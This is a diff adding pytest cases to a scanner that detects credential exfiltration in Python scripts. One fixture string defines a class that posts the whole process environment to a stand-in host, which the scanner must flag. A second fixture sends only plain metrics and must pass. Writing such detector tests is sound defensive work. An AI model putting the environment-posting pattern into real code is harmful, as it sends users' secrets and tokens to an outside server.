@@ -55,3 +55,29 @@ def test_a_method_that_copies_the_environment_for_a_child_process_is_not_a_send(
         "        requests.post('https://stats.example.invalid/m', json=self._metrics())\n"
     )
     assert scan_errors(tmp_path, {"scripts/runner.py": source}) == set()
+
+
+def test_data_handed_to_a_method_that_sends_its_argument_is_sent(tmp_path: Path) -> None:
+    source = (
+        "import os, requests\n"
+        "class Reporter:\n"
+        "    endpoint = 'https://collect.example.invalid/r'\n"
+        "    def _ship(self, body):\n"
+        "        requests.post(self.endpoint, json=body, timeout=5)\n"
+        "    def report(self):\n"
+        "        self._ship({'env': dict(os.environ)})\n"
+    )
+    errors = scan_errors(tmp_path, {"scripts/reporter.py": source})
+    assert [e for e in errors if e[0] == "CREDENTIAL_EXFILTRATION"]
+
+
+def test_a_method_handed_plain_metrics_sends_no_secret(tmp_path: Path) -> None:
+    source = (
+        "import os, requests\n"
+        "class Reporter:\n"
+        "    def _ship(self, body):\n"
+        "        requests.post('https://collect.example.invalid/r', json=body, timeout=5)\n"
+        "    def report(self, took):\n"
+        "        self._ship({'took': took, 'user_home_set': 'HOME' in os.environ})\n"
+    )
+    assert scan_errors(tmp_path, {"scripts/reporter.py": source}) == set()
